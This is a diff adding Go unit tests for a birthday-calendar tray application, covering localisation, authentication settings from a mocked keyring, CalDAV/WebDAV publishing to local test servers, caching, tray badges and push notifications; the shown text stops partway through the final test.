@@ -5,17 +5,37 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"image/png"
 	"io"
+	"log/slog"
+	"maps"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
 	"fyne.io/fyne/v2"
 	"fyne.io/fyne/v2/test"
+	"fyne.io/fyne/v2/theme"
+	"fyne.io/fyne/v2/widget"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/mock"
 	"github.com/stretchr/testify/require"
 	"github.com/tartampluch/go-birthday/internal/config"
+	"github.com/tartampluch/go-birthday/internal/engine"
+	"github.com/tartampluch/go-birthday/internal/prefs"
+	"github.com/tartampluch/go-birthday/internal/secrets"
 	"github.com/tartampluch/go-birthday/internal/server"
+	"github.com/zalando/go-keyring"
 )
 
 // -----------------------------------------------------------------------------
@@ -47,16 +67,20 @@ func (m MockClock) Now() time.Time {
 // MockTray implements minimal system tray functionality for headless testing.
 type MockTray struct {
 	Menu *fyne.Menu
+	Icon fyne.Resource
 }
 
 func (m *MockTray) SetSystemTrayMenu(menu *fyne.Menu) {
 	m.Menu = menu
 }
 
-func (m *MockTray) SetSystemTrayIcon(icon fyne.Resource) {}
-func (m *MockTray) SetSystemTrayWindow(w fyne.Window)    {}
-func (m *MockTray) Run()                                 {}
-func (m *MockTray) Quit()                                {}
+func (m *MockTray) SetSystemTrayIcon(icon fyne.Resource) {
+	m.Icon = icon
+}
+
+func (m *MockTray) SetSystemTrayWindow(w fyne.Window) {}
+func (m *MockTray) Run()                              {}
+func (m *MockTray) Quit()                             {}
 
 // -----------------------------------------------------------------------------
 // Test Setup Helper
@@ -79,13 +103,18 @@ func setupTestApp(t *testing.T) (*GoBirthdayApp, *MockFetcher, *MockTray) {
 
 	// Inject mocks
 	app.Tray = mockTray
+	app.sendClickable = nil // No notifications on the desktop of the developer
 
 	// Default MockClock to a neutral date if not overridden by test
 	app.Clock = MockClock{CurrentTime: time.Now()}
 
-	// Manually load I18n as Run() is skipped
+	// Manually load I18n as Run() is skipped, ignoring the user's own translations
+	app.LocalesDir = t.TempDir()
 	app.SetupI18n()
 
+	// Keep the calendar cache out of the user's cache directory
+	app.CacheDir = t.TempDir()
+
 	return app, fetcher, mockTray
 }
 
@@ -109,6 +138,34 @@ func TestLocalization_Switching(t *testing.T) {
 	assert.Equal(t, "Paramètres...", app.GetMsg(config.TKeyMenuSettings))
 }
 
+func TestLocalization_UserLocales(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	assert.Equal(t, config.SupportedLanguages, app.SupportedLanguages, "All embedded locales are detected")
+
+	// A user file overrides an embedded translation and another one adds a language.
+	dir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "active.fr.json"), []byte(`{"menu_refresh": "Rafraîchir"}`), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "active.eo.json"), []byte(`{"menu_refresh": "Aktualigi"}`), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "active.sv.json"), []byte(`not json`), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "notes.txt"), []byte(`ignored`), 0o600))
+
+	app.LocalesDir = dir
+	app.SetupI18n()
+	assert.Contains(t, app.SupportedLanguages, "eo")
+	assert.NotContains(t, app.SupportedLanguages, "sv", "Invalid files are skipped")
+	assert.Len(t, app.SupportedLanguages, len(config.SupportedLanguages)+1)
+
+	app.Preferences.SetString(config.PrefLanguage, "fr")
+	app.UpdateLocalizer()
+	assert.Equal(t, "Rafraîchir", app.GetMsg(config.TKeyMenuRefresh))
+	assert.Equal(t, "Paramètres...", app.GetMsg(config.TKeyMenuSettings), "Other keys keep the embedded translation")
+
+	app.Preferences.SetString(config.PrefLanguage, "eo")
+	app.UpdateLocalizer()
+	assert.Equal(t, "Aktualigi", app.GetMsg(config.TKeyMenuRefresh))
+	assert.Equal(t, "Settings...", app.GetMsg(config.TKeyMenuSettings), "Missing keys fall back to English")
+}
+
 func TestLocalization_SummaryFormatter(t *testing.T) {
 	app, _, _ := setupTestApp(t)
 	app.Preferences.SetString(config.PrefLanguage, "en")
@@ -135,6 +192,18 @@ func TestLocalization_SummaryFormatter(t *testing.T) {
 	assert.Contains(t, res, "birth", "Should indicate birth for age 0 when year is known")
 }
 
+func TestLocalization_DateSummaryFormatter(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLanguage, "fr")
+	app.UpdateLocalizer()
+
+	// Apple built-in labels are translated.
+	assert.Equal(t, "Anniversaire de mariage : Jane (10 ans)", app.dateSummaryFormatter(config.ABLabelAnniversary, "Jane", 10, true))
+
+	// Custom labels are kept as-is, no duration when the year is unknown.
+	assert.Equal(t, "Adoption : Rex", app.dateSummaryFormatter("Adoption", "Rex", 0, false))
+}
+
 // -----------------------------------------------------------------------------
 // Configuration & Preferences Tests
 // -----------------------------------------------------------------------------
@@ -163,9 +232,118 @@ func TestConfiguration_Mapping(t *testing.T) {
 
 	// -P2D matches ISO8601 for "2 Days Before"
 	expectedTrigger := fmt.Sprintf("%s%d%s", config.ISONegativePrefix, 2, config.ISODay)
-	assert.Equal(t, expectedTrigger, cfg.ReminderTrigger)
+	assert.Equal(t, []string{expectedTrigger}, cfg.ReminderTriggers)
+}
+
+func TestConfiguration_Transport(t *testing.T) {
+	keyring.MockInit()
+	app, _, _ := setupTestApp(t)
+	require.NoError(t, keyring.Set(config.KeyringService, config.KeyringProxyPass, "secret"))
+
+	// Without a proxy URL, the environment decides and no credentials are passed.
+	assert.Equal(t, engine.TransportConfig{}, app.loadSyncConfig().Transport)
+
+	app.Preferences.SetString(config.PrefProxyURL, "http://proxy.corp:3128")
+	app.Preferences.SetString(config.PrefProxyUser, "corp")
+	assert.Equal(t, engine.TransportConfig{ProxyURL: "http://proxy.corp:3128", ProxyUser: "corp", ProxyPass: "secret"},
+		app.loadSyncConfig().Transport)
+
+	app.Preferences.SetString(config.PrefCAFile, "/etc/ssl/internal-ca.pem")
+	app.Preferences.SetBool(config.PrefTLSInsecure, true)
+	tc := app.loadSyncConfig().Transport
+	assert.Equal(t, "/etc/ssl/internal-ca.pem", tc.CAFile)
+	assert.True(t, tc.InsecureSkipVerify)
+
+	app.Preferences.SetString(config.PrefClientCert, "/home/me/client.crt")
+	app.Preferences.SetString(config.PrefClientKey, "/home/me/client.key")
+	tc = app.loadSyncConfig().Transport
+	assert.Equal(t, "/home/me/client.crt", tc.ClientCert)
+	assert.Equal(t, "/home/me/client.key", tc.ClientKey)
 }
 
+// TestConfiguration_Auth verifies the bearer and OAuth2 settings, and the reuse of the OAuth2 token source.
+func TestConfiguration_Auth(t *testing.T) {
+	keyring.MockInit()
+	app, _, _ := setupTestApp(t)
+	require.NoError(t, keyring.Set(config.KeyringService, config.KeyringBearerToken, "app-token"))
+	require.NoError(t, keyring.Set(config.KeyringService, config.KeyringOAuth2Secret, "secret"))
+	require.NoError(t, keyring.Set(config.KeyringService, config.KeyringOAuth2Token, "refresh"))
+
+	assert.Equal(t, engine.Auth{Type: config.AuthBasic}, app.loadSyncConfig().Auth, "Basic Auth by default")
+
+	app.Preferences.SetString(config.PrefAuthType, config.AuthBearer)
+	assert.Equal(t, engine.Auth{Type: config.AuthBearer, Token: "app-token"}, app.loadSyncConfig().Auth)
+
+	app.Preferences.SetString(config.PrefAuthType, config.AuthOAuth2)
+	app.Preferences.SetString(config.PrefOAuth2TokenURL, "https://auth.example.com/token")
+	app.Preferences.SetString(config.PrefOAuth2ClientID, "client")
+	auth := app.loadSyncConfig().Auth
+	require.NotNil(t, auth.OAuth2)
+	assert.Equal(t, engine.OAuth2Config{TokenURL: "https://auth.example.com/token", ClientID: "client", ClientSecret: "secret"}, auth.OAuth2.Config)
+	assert.Equal(t, "refresh", auth.OAuth2.RefreshToken())
+	assert.Same(t, auth.OAuth2, app.loadSyncConfig().Auth.OAuth2, "The token source is kept between synchronizations")
+
+	// A rotated refresh token is saved to the keyring.
+	auth.OAuth2.OnRotate("rotated")
+	saved, err := keyring.Get(config.KeyringService, config.KeyringOAuth2Token)
+	require.NoError(t, err)
+	assert.Equal(t, "rotated", saved)
+
+	app.Preferences.SetString(config.PrefOAuth2ClientID, "other")
+	assert.NotSame(t, auth.OAuth2, app.loadSyncConfig().Auth.OAuth2, "A new provider setting starts over")
+}
+
+func TestConfiguration_Theme(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+
+	// Forced variants ignore the variant requested by the system.
+	dark := newAppTheme(config.ThemeDark, 1)
+	light := newAppTheme(config.ThemeLight, 1)
+	system := newAppTheme(config.ThemeSystem, 1)
+	assert.Equal(t,
+		theme.DefaultTheme().Color(theme.ColorNameBackground, theme.VariantDark),
+		dark.Color(theme.ColorNameBackground, theme.VariantLight))
+	assert.Equal(t,
+		theme.DefaultTheme().Color(theme.ColorNameBackground, theme.VariantLight),
+		light.Color(theme.ColorNameBackground, theme.VariantDark))
+	assert.Equal(t,
+		theme.DefaultTheme().Color(theme.ColorNameBackground, theme.VariantDark),
+		system.Color(theme.ColorNameBackground, theme.VariantDark))
+
+	// Text is scaled, paddings are not.
+	large := newAppTheme(config.ThemeSystem, 2)
+	assert.Equal(t, 2*theme.DefaultTheme().Size(theme.SizeNameText), large.Size(theme.SizeNameText))
+	assert.Equal(t, theme.DefaultTheme().Size(theme.SizeNamePadding), large.Size(theme.SizeNamePadding))
+
+	// The preference is applied to the running application.
+	app.Preferences.SetString(config.PrefTheme, config.ThemeDark)
+	app.applyTheme()
+	current, ok := app.App.Settings().Theme().(*appTheme)
+	require.True(t, ok)
+	assert.Equal(t, config.ThemeDark, current.mode)
+}
+
+func TestConfiguration_DebugLogging(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.LogLevel = new(slog.LevelVar)
+
+	app.ApplyLogLevel()
+	assert.Equal(t, slog.LevelInfo, app.LogLevel.Level())
+
+	// The preference switches the shared level without a restart.
+	app.Preferences.SetBool(config.PrefDebugLogging, true)
+	app.ApplyLogLevel()
+	assert.Equal(t, slog.LevelDebug, app.LogLevel.Level())
+
+	app.Preferences.SetBool(config.PrefDebugLogging, false)
+	app.ApplyLogLevel()
+	assert.Equal(t, slog.LevelInfo, app.LogLevel.Level())
+
+	// --debug always wins.
+	app.DebugFlag = true
+	app.ApplyLogLevel()
+	assert.Equal(t, slog.LevelDebug, app.LogLevel.Level())
+}
 func TestConfiguration_WorkerSignal(t *testing.T) {
 	app, _, _ := setupTestApp(t)
 	app.watchPreferences()
@@ -224,6 +402,63 @@ func TestPerformSync_Success(t *testing.T) {
 	app.ContactsMut.RUnlock()
 }
 
+func TestPerformSync_CategoryFilter(t *testing.T) {
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	vcards := "BEGIN:VCARD\nVERSION:3.0\nFN:Cousin\nBDAY:19900101\nCATEGORIES:Family\nEND:VCARD\n" +
+		"BEGIN:VCARD\nVERSION:3.0\nFN:Boss\nBDAY:19800101\nCATEGORIES:Work\nEND:VCARD"
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString(vcards)), nil)
+
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+	app.Preferences.SetStringList(config.PrefIncludeCategories, []string{"family"})
+
+	app.performSync(false)
+
+	app.ContactsMut.RLock()
+	require.Len(t, app.Contacts, 1)
+	assert.Equal(t, "Cousin", app.Contacts[0].Name)
+	app.ContactsMut.RUnlock()
+
+	// Groups of excluded contacts must still be offered in settings.
+	assert.Equal(t, []string{"Family", "Work"}, app.Preferences.StringList(config.PrefKnownCategories))
+}
+
+func TestPerformSync_UpcomingMenu(t *testing.T) {
+	app, fetcher, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+	app.setupTrayMenu()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 3, 1, 10, 0, 0, 0, time.UTC)}
+
+	assert.True(t, app.TrayUpcomingItem.Disabled, "Empty before the first sync")
+
+	var vcards string
+	for i, bday := range []string{"19950303", "--0302", "19800710", "20000401", "19901231", "19700601", "19600615"} {
+		vcards += fmt.Sprintf("BEGIN:VCARD\nVERSION:3.0\nFN:P%d\nBDAY:%s\nEND:VCARD\n", i, bday)
+	}
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString(vcards)), nil)
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+
+	app.performSync(false)
+
+	require.False(t, app.TrayUpcomingItem.Disabled)
+	items := app.TrayUpcomingItem.ChildMenu.Items
+	require.Len(t, items, config.UpcomingCount)
+	assert.Equal(t, "Mar 2 – P1", items[0].Label, "Unknown year: no age")
+	assert.Equal(t, "Mar 3 – P0 (30)", items[1].Label)
+	assert.Equal(t, "Apr 1 – P3 (25)", items[2].Label)
+
+	// Selecting an entry opens the contacts window.
+	items[0].Action()
+	assert.NotNil(t, app.contactsWindow)
+}
+
 func TestPerformSync_Failure(t *testing.T) {
 	app, fetcher, _ := setupTestApp(t)
 	app.setupTrayMenu()
@@ -234,12 +469,237 @@ func TestPerformSync_Failure(t *testing.T) {
 	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
 	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
 
+	var clicks []func()
+	app.sendClickable = func(_ *fyne.Notification, onClick func()) bool {
+		clicks = append(clicks, onClick)
+		return true
+	}
+
 	app.performSync(true)
 
 	fetcher.AssertExpectations(t)
 	assert.Equal(t, config.FallbackTrayError, app.TrayStatusItem.Label)
+
+	// The error notification opens the log viewer.
+	require.Len(t, clicks, 1)
+	clicks[0]()
+	assert.NotNil(t, app.logsWindow)
 }
 
+func TestPerformSync_Limits(t *testing.T) {
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString(
+			"BEGIN:VCARD\nVERSION:3.0\nFN:One\nBDAY:19900101\nEND:VCARD\n"+
+				"BEGIN:VCARD\nVERSION:3.0\nFN:Two\nBDAY:19910101\nEND:VCARD\n")), nil)
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+
+	// Unset preferences keep the defaults.
+	limits := app.loadSyncConfig().Limits
+	assert.Equal(t, int64(config.DefaultMaxDownloadMB)*config.BytesPerMB, limits.MaxDownloadBytes)
+	assert.Equal(t, config.DefaultMaxContacts, limits.MaxContacts)
+
+	// Too many contacts: the sync fails instead of keeping only some of them.
+	app.Preferences.SetInt(config.PrefMaxContacts, 1)
+	app.performSync(true)
+	assert.Equal(t, config.FallbackTrayError, app.TrayStatusItem.Label)
+	assert.Nil(t, app.Server.Data())
+}
+
+// TestPerformSync_CalDAV verifies that the events are published to the CalDAV calendar after a sync.
+func TestPerformSync_CalDAV(t *testing.T) {
+	keyring.MockInit()
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	var mu sync.Mutex
+	var puts []string
+	dav := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		user, pass, _ := r.BasicAuth()
+		assert.Equal(t, "me", user)
+		assert.Equal(t, "secret", pass)
+		switch r.Method {
+		case config.MethodPropfind:
+			w.WriteHeader(http.StatusMultiStatus)
+			_, _ = io.WriteString(w, `<?xml version="1.0"?><d:multistatus xmlns:d="DAV:"/>`)
+		case http.MethodPut:
+			mu.Lock()
+			puts = append(puts, r.URL.Path)
+			mu.Unlock()
+			w.WriteHeader(http.StatusCreated)
+		}
+	}))
+	defer dav.Close()
+
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString("BEGIN:VCARD\nVERSION:3.0\nFN:Published\nBDAY:19900101\nEND:VCARD\n")), nil)
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+	app.Preferences.SetBool(config.PrefCalDAVEnabled, true)
+	app.Preferences.SetString(config.PrefCalDAVURL, dav.URL+"/calendars/me/birthdays/")
+	app.Preferences.SetString(config.PrefCalDAVUser, "me")
+	require.NoError(t, keyring.Set(config.KeyringService, config.KeyringCalDAVPass, "secret"))
+
+	app.performSync(false)
+
+	mu.Lock()
+	defer mu.Unlock()
+	assert.Len(t, puts, 3, "One resource per yearly event")
+	for _, p := range puts {
+		assert.True(t, strings.HasPrefix(p, "/calendars/me/birthdays/"), p)
+	}
+}
+
+// TestPerformSync_OutputFile verifies that the calendar is written to the chosen file after a sync.
+func TestPerformSync_OutputFile(t *testing.T) {
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString("BEGIN:VCARD\nVERSION:3.0\nFN:Shared\nBDAY:19900101\nEND:VCARD\n")), nil)
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+	path := filepath.Join(t.TempDir(), "birthdays.ics")
+	app.Preferences.SetString(config.PrefOutputFile, path)
+
+	app.performSync(false)
+
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	assert.Equal(t, app.Server.Data(), data)
+	assert.Contains(t, string(data), "Shared")
+}
+
+// TestPerformSync_WebDAV verifies that the calendar file is uploaded with the bearer token after a sync.
+func TestPerformSync_WebDAV(t *testing.T) {
+	keyring.MockInit()
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	var mu sync.Mutex
+	var uploaded []byte
+	dav := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		assert.Equal(t, "Bearer tok", r.Header.Get("Authorization"))
+		assert.Equal(t, "/files/me/"+config.ExportCalFileName, r.URL.Path)
+		switch r.Method {
+		case http.MethodHead:
+			w.WriteHeader(http.StatusNotFound)
+		case http.MethodPut:
+			mu.Lock()
+			uploaded, _ = io.ReadAll(r.Body)
+			mu.Unlock()
+			w.WriteHeader(http.StatusCreated)
+		}
+	}))
+	defer dav.Close()
+
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString("BEGIN:VCARD\nVERSION:3.0\nFN:Uploaded\nBDAY:19900101\nEND:VCARD\n")), nil)
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+	app.Preferences.SetBool(config.PrefWebDAVEnabled, true)
+	app.Preferences.SetString(config.PrefWebDAVURL, dav.URL+"/files/me/")
+	require.NoError(t, keyring.Set(config.KeyringService, config.KeyringWebDAVToken, "tok"))
+
+	app.performSync(false)
+
+	mu.Lock()
+	defer mu.Unlock()
+	assert.Equal(t, app.Server.Data(), uploaded)
+}
+
+func TestPerformSync_NotModified(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	var downloads, notModified atomic.Int32
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get(config.HeaderIfNoneMatch) == `"v1"` {
+			notModified.Add(1)
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		downloads.Add(1)
+		w.Header().Set(config.HeaderETag, `"v1"`)
+		_, _ = io.WriteString(w, "BEGIN:VCARD\nVERSION:3.0\nFN:Cached User\nBDAY:19900101\nEND:VCARD")
+	}))
+	defer ts.Close()
+
+	app.Fetcher = engine.NewHTTPFetcher()
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, ts.URL)
+
+	app.performSync(false)
+	ics := app.Server.Data()
+	require.NotEmpty(t, ics)
+
+	// Unchanged address book: the calendar and the status are kept, even after an error status.
+	app.updateTrayStatus(-1)
+	app.performSync(false)
+	assert.Equal(t, int32(1), downloads.Load())
+	assert.Equal(t, int32(1), notModified.Load())
+	assert.Equal(t, ics, app.Server.Data())
+	assert.Contains(t, app.TrayStatusItem.Label, "1")
+
+	// A settings change regenerates the calendar, without a conditional request.
+	app.Preferences.SetString(config.PrefEventColor, "red")
+	app.performSync(false)
+	assert.Equal(t, int32(2), downloads.Load())
+	assert.NotEqual(t, ics, app.Server.Data())
+}
+func TestPerformSync_Cache(t *testing.T) {
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString("BEGIN:VCARD\nVERSION:3.0\nFN:Kept\nBDAY:19900101\nEND:VCARD")), nil)
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+
+	app.performSync(false)
+	ics := app.Server.Data()
+	require.NotEmpty(t, ics)
+
+	info, err := os.Stat(filepath.Join(app.CacheDir, config.CacheICSFile))
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(config.FilePermUserRW), info.Mode().Perm())
+
+	// After a restart, the cached calendar is served before the first synchronization.
+	next, _, _ := setupTestApp(t)
+	next.CacheDir = app.CacheDir
+	next.Clock = app.Clock
+	next.setupTrayMenu()
+	assert.Nil(t, next.Server.Data())
+	next.loadCalendarCache()
+	assert.Equal(t, ics, next.Server.Data())
+
+	// The contacts and the tray are populated too, without the photos.
+	next.loadContactsCache()
+	next.ContactsMut.RLock()
+	require.Len(t, next.Contacts, 1)
+	assert.Equal(t, "Kept", next.Contacts[0].Name)
+	assert.Nil(t, next.Contacts[0].Photo)
+	next.ContactsMut.RUnlock()
+	assert.Contains(t, next.TrayStatusItem.Label, "1")
+	assert.False(t, next.TrayUpcomingItem.Disabled)
+
+	// A day later, the birthday is past: no longer counted or listed.
+	later, _, _ := setupTestApp(t)
+	later.CacheDir = app.CacheDir
+	later.Clock = MockClock{CurrentTime: time.Date(2025, 1, 2, 10, 0, 0, 0, time.UTC)}
+	later.setupTrayMenu()
+	later.loadContactsCache()
+	assert.Equal(t, later.GetMsg(config.TKeyTrayStatusZero), later.TrayStatusItem.Label)
+	assert.True(t, later.TrayUpcomingItem.Disabled)
+}
 func TestTrayStatusUpdate_Logic(t *testing.T) {
 	app, _, mockTray := setupTestApp(t)
 	app.setupTrayMenu()
@@ -263,3 +723,719 @@ func TestTrayStatusUpdate_Logic(t *testing.T) {
 	// Ensure refresh was called on the menu
 	assert.NotNil(t, mockTray.Menu)
 }
+
+func TestTrayIcon_Badge(t *testing.T) {
+	app, _, mockTray := setupTestApp(t)
+
+	// A positive count draws a badge over the application icon.
+	app.updateTrayIcon(3)
+	require.NotNil(t, mockTray.Icon)
+	assert.Equal(t, config.IconBadgeFile, mockTray.Icon.Name())
+	assert.NotEqual(t, appIconData, mockTray.Icon.Content())
+
+	badged, err := png.Decode(bytes.NewReader(mockTray.Icon.Content()))
+	require.NoError(t, err)
+	base, err := png.Decode(bytes.NewReader(appIconData))
+	require.NoError(t, err)
+	assert.Equal(t, base.Bounds(), badged.Bounds(), "Badge must not resize the icon")
+
+	// Large counts are capped but still rendered.
+	large, err := badgeIcon(appIconData, 42)
+	require.NoError(t, err)
+	capped, err := badgeIcon(appIconData, config.BadgeMaxCount+1)
+	require.NoError(t, err)
+	assert.Equal(t, capped, large)
+
+	// Back to zero (or an error) restores the plain icon.
+	app.updateTrayIcon(0)
+	assert.Equal(t, app.App.Icon(), mockTray.Icon)
+
+	_, err = badgeIcon([]byte("not a png"), 1)
+	assert.Error(t, err)
+}
+
+func TestMainWindow_MirrorsStatus(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Tray = nil // No system tray available
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+
+	app.setupTrayMenu()
+	app.showMainWindow()
+	require.NotNil(t, app.mainWindow)
+	t.Cleanup(app.mainWindow.Close)
+
+	app.updateTrayStatus(0)
+	assert.Equal(t, "No birthdays today", app.mainStatus.Text)
+
+	// Language changes rebuild the buttons without losing the status.
+	app.RefreshTrayMenu()
+	assert.Equal(t, "No birthdays today", app.mainStatus.Text)
+}
+
+// -----------------------------------------------------------------------------
+// Push Notification Tests
+// -----------------------------------------------------------------------------
+
+func TestPerformSync_PushOncePerDay(t *testing.T) {
+	keyring.MockInit()
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	var hits int32
+	var gotTitle string
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		atomic.AddInt32(&hits, 1)
+		gotTitle = r.Header.Get(config.HeaderNtfyTitle)
+		w.WriteHeader(http.StatusOK)
+	}))
+	defer ts.Close()
+
+	vcard := "BEGIN:VCARD\nVERSION:3.0\nFN:Push User\nBDAY:19900101\nEND:VCARD"
+	for i := 0; i < 2; i++ {
+		fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+			Return(io.NopCloser(bytes.NewBufferString(vcard)), nil).Once()
+	}
+
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+	app.Preferences.SetString(config.PrefPushBackend, config.PushBackendNtfy)
+	app.Preferences.SetString(config.PrefPushServer, ts.URL)
+	app.Preferences.SetString(config.PrefPushTopic, "birthdays")
+
+	app.performSync(false)
+	app.performSync(false)
+
+	assert.Equal(t, int32(1), atomic.LoadInt32(&hits), "Push should be sent only once per day")
+	assert.Equal(t, "🎂 1 birthday today", gotTitle)
+	assert.Equal(t, "2025-01-01", app.Preferences.String(config.PrefPushLastDate))
+}
+
+func TestPerformSync_SnoozeBirthdays(t *testing.T) {
+	app, fetcher, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	assert.True(t, app.TraySnoozeItem.Disabled, "Nothing to snooze before a notification")
+
+	fetcher.On("Fetch", mock.Anything, mock.Anything, mock.Anything, mock.Anything).
+		Return(io.NopCloser(bytes.NewBufferString("BEGIN:VCARD\nVERSION:3.0\nFN:Snoozed\nBDAY:19900101\nEND:VCARD")), nil)
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, "http://test.local")
+
+	var clicks []func()
+	app.sendClickable = func(_ *fyne.Notification, onClick func()) bool {
+		clicks = append(clicks, onClick)
+		return true
+	}
+
+	app.performSync(false)
+	assert.Equal(t, "2025-01-01", app.Preferences.String(config.PrefNotifLastDate))
+	require.Len(t, clicks, 1, "The birthday notification is clickable")
+	clicks[0]()
+	assert.NotNil(t, app.contactsWindow, "It opens the contacts window")
+	require.False(t, app.TraySnoozeItem.Disabled)
+	assert.Equal(t, []string{"Snoozed (35)"}, app.snoozeNames)
+
+	app.TraySnoozeItem.ChildMenu.Items[1].Action()
+	assert.True(t, app.TraySnoozeItem.Disabled, "Snoozed until shown again")
+	require.NotNil(t, app.snoozeTimer)
+	app.snoozeTimer.Stop()
+
+	now := time.Date(2025, 3, 29, 20, 0, 0, 0, time.UTC)
+	assert.Equal(t, time.Hour, snoozeDelay(config.SnoozeHour, now))
+	assert.Equal(t, config.SnoozeHoursDelay, snoozeDelay(config.SnoozeHours, now))
+	assert.Equal(t, 24*time.Hour, snoozeDelay(config.SnoozeTomorrow, now))
+}
+
+func TestTodayWindow(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+	app.setupTrayMenu()
+	now := time.Date(2025, 1, 1, 9, 0, 0, 0, time.UTC)
+	app.Clock = MockClock{CurrentTime: now}
+	contacts := []engine.BirthdayEntry{{UID: "u1", Name: "Ann", NextOccurrence: now}}
+	todayWindows := func() int {
+		n := 0
+		for _, w := range app.App.Driver().AllWindows() {
+			if w.Title() == "Today's birthdays" {
+				n++
+			}
+		}
+		return n
+	}
+
+	app.showTodayWindow(contacts)
+	assert.Zero(t, todayWindows(), "Off unless enabled")
+
+	app.Preferences.SetBool(config.PrefTodayWindow, true)
+	app.Preferences.SetString(config.PrefTodayDismissed, "2025-01-01")
